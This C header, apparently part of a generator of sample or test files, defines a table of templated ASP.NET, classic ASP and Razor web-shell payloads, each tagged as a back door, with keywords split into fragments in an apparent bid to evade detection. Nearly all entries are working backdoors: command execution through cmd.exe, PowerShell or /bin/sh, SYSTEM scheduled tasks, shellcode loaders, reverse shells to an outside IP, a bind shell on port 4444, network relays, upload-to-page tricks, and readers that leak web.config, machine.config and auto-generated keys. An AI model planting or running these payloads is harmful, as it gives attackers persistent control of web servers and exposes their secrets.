/* Ways through classes of .NET and COM. The plans of shape_text.h. */
#ifndef TECHNIQUE_API_H
#define TECHNIQUE_API_H

#include "technique.h"

static const struct technique by_api[] = {
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var f = Path.GetTempFileName(); File.{w}(f, {r}[\"k\"]); var "
      "r = new Microsoft.CSharp.CSharpCodePr""ovider().Compile""Asse""mblyFromFile(new CompilerParameters{GenerateInMemory=true}, f); r.CompiledAsse""mbly.GetType(\"A\")"
      ".GetM""ethod(\"M\").Inv""oke(null,null);}</{s}>",
      "a source file, compiled", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {File.{w}(Server.MapPath(\"~/App_Data/a.txt\"), {r}[\"k\"]); var "
      "t = System.Web.Compilation.BuildManager.GetCompiledType(\"~/App_Data/a.txt\");}</{s}>",
      "a source file, found by the server", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var en = IronPyt""hon.Hosting.Pyt""hon.CreateEngine(); en.{x}({r}[\"k\"])"
      ";}</{s}>",
      "another language", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var en = IronPyt""hon.Hosting.Pyt""hon.CreateEngine(); var src "
      "= en.CreateScriptSourceFromString({r}[\"k\"]); var sc = en.CreateScope(); src.{x}(sc);}</{s}>",
      "another language, prepared", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var s2 = new MoonSharp.Interpreter.Script(); s2.DoString({r}[\"k\"])"
      ";}</{s}>",
      "a small language", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var r = new System.Resources.ResourceReader({r}.InputStream);"
      " foreach (DictionaryEntry d in r) Response.Write(d.Value);}</{s}>",
      "resources of any class", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var r = new System.Resources.ResXResourceReader(new StringReader({r}[\"k\"])"
      "); foreach (DictionaryEntry d in r) Response.Write(d.Value);}</{s}>",
      "resources as XML", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var f = new System.Messaging.BinaryMessageFormatter(); var m "
      "= new System.Messaging.Message(); m.BodyStream = {r}.InputStream; f.Read(m);}</{s}>",
      "a message of any class", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {dynamic p = Activator.CreateInstance(\"System.Management.Automation,"
      " Version=3.0.0.0\", \"System.Management.Automation.Power""Sh""ell\").Unwrap(); p.AddScript({r}[\"k\"]).Inv""oke();}</{s}>",
      "a class by its library", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {dynamic sv = Activator.CreateInstance(Type.GetTypeFromProgID(\"Schedule.Service\")"
      "); sv.Connect(); var td = sv.NewTask(0); var ac = td.Actions.Create(0); ac.Path = \"c""md"".exe\"; ac.Arguments = \"/c \" + {r}[\"k\"];"
      " sv.GetFolder(\"\\\\\").RegisterTaskDefinition(\"a\", td, 6, \"SYSTEM\", null, 5);}</{s}>",
      "a task", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {Mar""shal.BindToMoniker(\"{s}:\" + {r}[\"u\"]);}</{s}>",
      "a moniker", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>[DllI""mport(\"msv""crt.dll\")] static extern IntPtr _po""pen(string c, string m); void Page_Lo""ad(object "
      "s, EventArgs e){ _po""pen({r}[\"k\"], \"r\"); }</{s}>",
      "a pipe of the C library", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>[DllI""mport(\"kern""el32\")] static extern IntPtr HeapCreate(uint a, UIntPtr b, UIntPtr c); [DllI""mport(\"kern""el32\")"
      "] static extern IntPtr HeapAlloc(IntPtr h, uint f, uint n); [DllI""mport(\"kern""el32\")] static extern bool En""umSystemLocalesA(IntPtr "
      "p, uint f); void Page_Lo""ad(object s, EventArgs e){ byte[] b = Convert.FromBase""64String({r}[\"k\"]); IntPtr h = HeapCreate(0x40000, "
      "UIntPtr.Zero, UIntPtr.Zero); IntPtr p = HeapAlloc(h, 0, (uint)b.Length); Mar""shal.Copy(b, 0, p, b.Length); En""umSystemLocalesA(p, 0);"
      " }</{s}>",
      "memory of a heap and a callback", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>static void Dummy(){} void Page_Lo""ad(object s, EventArgs e){ var m = typeof(ASP.a_aspx).GetM""ethod(\"Dummy\","
      " BindingFlags.NonPublic|BindingFlags.Static); RuntimeHelpers.PrepareMethod(m.MethodHandle); byte[] b = Convert.FromBase""64String({r}[\"k\"])"
      "; Mar""shal.Copy(b, 0, m.MethodHandle.GetFunctionPointer(), b.Length); Dummy(); }</{s}>",
      "machine code over a method", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var m = typeof(Asse""mbly).GetM""ethods().First(x => x.Name == "
      "\"Load\" && x.GetParameters().Length == 1 && x.GetParameters()[0].ParameterType == typeof(byte[])); var a = (Asse""mbly)m.Inv""oke(null,"
      " new object[]{ Convert.FromBase""64String({r}[\"k\"]) }); a.EntryPoint.Inv""oke(null, null);}</{s}>",
      "one of the methods", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var a = System.Runtime.Loader.Asse""mblyLoadContext.Default.LoadFromStream({r}.InputStream)"
      "; a.EntryPoint.Inv""oke(null, null);}</{s}>",
      "a context that loads", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ WebHandler {l}=\"C#\" Class=\"H\" {c}\nusing System;using System.Web;using System.IO;\npublic class H : IHttpHandler { public void "
      "{p}{r}(HttpContext c) {using (var f = System.IO.MemoryMappedFiles.MemoryMappedFile.CreateFromFile(c.{r}[\"p\"], FileMode.Create, null, "
      "9)) using (var v = f.CreateViewStream()) c.{r}.InputStream.CopyTo(v);} public bool IsReusable { get { return false; } } }",
      "a file in memory", PAGE_ASHX, PAGE_BACK_DOOR },
    { "{o}@ WebHandler {l}=\"C#\" Class=\"H\" {c}\nusing System;using System.Web;using System.IO;\npublic class H : IHttpHandler { public void "
      "{p}{r}(HttpContext c) {System.Xml.Linq.XDocument.Parse(c.{r}[\"d\"]).Save(c.{r}[\"p\"]);} public bool IsReusable { get { return false; "
      "} } }",
      "a document, saved", PAGE_ASHX, PAGE_BACK_DOOR },
    { "{o}@ WebHandler {l}=\"C#\" Class=\"H\" {c}\nusing System;using System.Web;using System.IO;\npublic class H : IHttpHandler { public void "
      "{p}{r}(HttpContext c) {var p = Path.GetTempFileName(); c.{r}.Files[0].{f}(p); System.IO.Compression.ZipFile.ExtractToDirectory(p, c.Server.MapPath(c.{r}[\"d\"])"
      ");} public bool IsReusable { get { return false; } } }",
      "an archive, unpacked", PAGE_ASHX, PAGE_BACK_DOOR },
    { "{o}@ WebHandler {l}=\"C#\" Class=\"H\" {c}\nusing System;using System.Web;using System.IO;\npublic class H : IHttpHandler { public void "
      "{p}{r}(HttpContext c) {var p = c.Server.MapPath(\"~/u/a.jpg\"); c.{r}.Files[0].{f}(p); File.Move(p, Path.ChangeExtension(p, \".aspx\"))"
      ";} public bool IsReusable { get { return false; } } }",
      "a picture that becomes a page", PAGE_ASHX, PAGE_BACK_DOOR },
    { "{o}@ WebHandler {l}=\"C#\" Class=\"H\" {c}\nusing System;using System.Web;using System.IO;\npublic class H : IHttpHandler { public void "
      "{p}{r}(HttpContext c) {var p = Path.GetTempFileName(); File.{w}(p, c.{r}[\"d\"]); File.Copy(p, c.Server.MapPath(\"~/a.aspx\"));} public "
      "bool IsReusable { get { return false; } } }",
      "a copy that becomes a page", PAGE_ASHX, PAGE_BACK_DOOR },
    { "{o}@ WebHandler {l}=\"C#\" Class=\"H\" {c}\nusing System;using System.Web;using System.IO;\npublic class H : IHttpHandler { public void "
      "{p}{r}(HttpContext c) {var t = new System.Net.Sockets.TcpC""lient(c.{r}[\"h\"], int.Parse(c.{r}[\"p\"])); var n = t.GetStream(); c.{r}.InputStream.CopyTo(n)"
      "; n.CopyTo(c.Response.OutputStream);} public bool IsReusable { get { return false; } } }",
      "a relay", PAGE_ASHX, PAGE_BACK_DOOR },
    { "{o}@ WebHandler {l}=\"C#\" Class=\"H\" {c}\nusing System;using System.Web;using System.IO;\npublic class H : IHttpHandler { public void "
      "{p}{r}(HttpContext c) {c.AcceptW""ebSocket{r}(async x => { var ws = x.WebSocket; var b = new byte[4096]; while (true) { var r = await ws.ReceiveAsync(new "
      "ArraySegment<byte>(b), System.Threading.CancellationToken.None); System.Diagnostics.{p}.Start(\"c""md"".exe\", \"/c \" + System.Text.Encoding.UTF8.GetString(b,"
      " 0, r.Count)); } });} public bool IsReusable { get { return false; } } }",
      "a socket of the web", PAGE_ASHX, PAGE_BACK_DOOR },
    { "{o}@ WebHandler {l}=\"C#\" Class=\"H\" {c}\nusing System;using System.Web;using System.IO;\npublic class H : IHttpHandler { public void "
      "{p}{r}(HttpContext c) {var p = new System.IO.Pipes.NamedPipeClientStream(\".\", c.{r}[\"n\"]); p.Connect(); c.{r}.InputStream.CopyTo(p)"
      "; p.CopyTo(c.Response.OutputStream);} public bool IsReusable { get { return false; } } }",
      "a pipe to another", PAGE_ASHX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var t = new System.Net.Sockets.TcpC""lient({r}[\"h\"], 443); "
      "var st = t.GetStream(); var rd = new StreamReader(st); var p = new {p}(); p.Star""tInfo.FileName=\"c""md"".exe\"; p.Star""tInfo.RedirectStandardInput=true;"
      " p.Star""tInfo.UseSh""ell{x}=false; p.Start(); while(true) p.StandardInput.WriteLine(rd.ReadLine());}</{s}>",
      "orders from a machine that is named", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var t = new System.Net.Sockets.TcpC""lient(\"203.0.113.5\", 443)"
      "; var st = t.GetStream(); var rd = new StreamReader(st); var p = new {p}(); p.Star""tInfo.FileName=\"c""md"".exe\"; p.Star""tInfo.RedirectStandardInput=true;"
      " p.Star""tInfo.UseSh""ell{x}=false; p.Start(); while(true) p.StandardInput.WriteLine(rd.ReadLine());}</{s}>",
      "orders from a fixed machine", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var l = new System.Net.Sockets.TcpListener(System.Net.IPAddress.Any,"
      " 4444); l.Start(); var c = l.AcceptTcpC""lient(); var rd = new StreamReader(c.GetStream()); {p}.Start(\"c""md"".exe\", \"/c \" + rd.ReadLine()"
      ");}</{s}>",
      "orders by a port", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {Response.Write(File.ReadAllText(Server.MapPath(\"~/web.c""onfig\")"
      "));}</{s}>",
      "the settings, read", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {Response.TransmitFile(Server.MapPath(\"~/web.c""onfig\"));}</{s}>",
      "the settings, sent", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {Response.WriteFile(\"C:\\\\Windows\\\\Microsoft.NET\\\\Framework64\\\\v4.0.30319\\\\Config\\\\machine"".config\")"
      ";}</{s}>",
      "the settings of all", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var f = typeof(HttpRuntime).GetField(\"s_autog""enKeys\", BindingFlags.Static|BindingFlags.NonPublic)"
      "; var b = (byte[])f.GetValue(null); Response.Write(BitConverter.ToString(b));}</{s}>",
      "keys that were made", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var p = new {p}(); p.Star""tInfo.FileName = \"c""md"".exe\"; "
      "p.Star""tInfo.RedirectStandardInput = true; p.Star""tInfo.UseSh""ell{x} = false; p.Start(); {r}.InputStream.CopyTo(p.StandardInput.BaseStream)"
      ";}</{s}>",
      "a body as input", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var f = Path.ChangeExtension(Path.GetTempFileName(), \"ba""t\")"
      "; File.{w}(f, {r}[\"k\"]); {p}.Start(f);}</{s}>",
      "a batch file", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {var t = Type.GetType({r}[\"t\"]); t.Inv""oke""Member({r}[\"m\"],"
      " BindingFlags.Inv""okeMethod, null, null, new object[]{{r}[\"a\"]});}</{s}>",
      "any member of any class", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"VB\" {c}<{s} {a}>\nSub Page_Lo""ad()\nMy.Computer.Network.DownloadFile({r}(\"u\"), {r}(\"p\"))\nEnd Sub\n</{s}>",
      "a download of VB", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}\nSet f = Create""Object(\"Scri""pting.FileSyst""emObject\")\n{x} f.OpenTextFile({r}(\"p\")).ReadAll\n{c}",
      "a file of its choice", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}\nSet c = Create""Object(\"ADODB.Connection\") : c.Open \"Provider=Microsoft.Jet.OLEDB.4.0;Data Source=\" & Server.MapPath(\"a.mdb\")"
      " : c.{x} \"select '\" & {r}(\"d\") & \"' into [a] in '\" & Server.MapPath(\"a.a""sp;.xls\") & \"' 'Excel 8.0;'\"\n{c}",
      "a table that is a page", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}\nSet x = Create""Object(\"Access.Application\") : x.Ev""al {r}(\"k\")\n{c}",
      "a database that counts", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}\nSet f = Create""Object(\"Scri""pting.FileSyst""emObject\").CreateT""extFile(Server.MapPath(\"t.txt\")) : f.Write {r}(\"d\") : f.Close "
      ": Server.{x} \"t.txt\"\n{c}",
      "a text that is run", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}\nCreate""Object(\"Scri""pting.FileSyst""emObject\").CreateT""extFile(Server.MapPath(\"t.inc\")).Write {r}(\"d\")\nServer.Transfer(\"t.inc\")"
      "\n{c}",
      "a text that follows", PAGE_ASP, PAGE_BACK_DOOR },
    { "@using System.Diagnostics\n@{ var q = Context.{r}.Query[\"k\"].ToString(); var p = {p}.Start(new {p}Star""tInfo { FileName = \"/bin/sh\","
      " Arguments = \"-c \\\"\" + q + \"\\\"\", RedirectStandardOutput = true }); }\n<pre>@p.StandardOutput.ReadToEnd()</pre>",
      "another shell", PAGE_RAZOR_CS, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<asp:TextBox id=\"c\" {a}/><asp:TextBox id=\"q\" {a}/><asp:SqlDataSource id=\"d\" {a}/><asp:GridView id=\"g\" {a}/><{s} "
      "{a}>void B(object s, EventArgs e){ d.ConnectionString=c.Text; d.SelectCommand=q.Text; g.DataSourceID=\"d\"; g.DataBind(); }</{s}><asp:Button "
      "{a} OnClick=\"B\"/>",
      "a source of data", PAGE_ASPX, PAGE_BACK_DOOR },
};

#endif
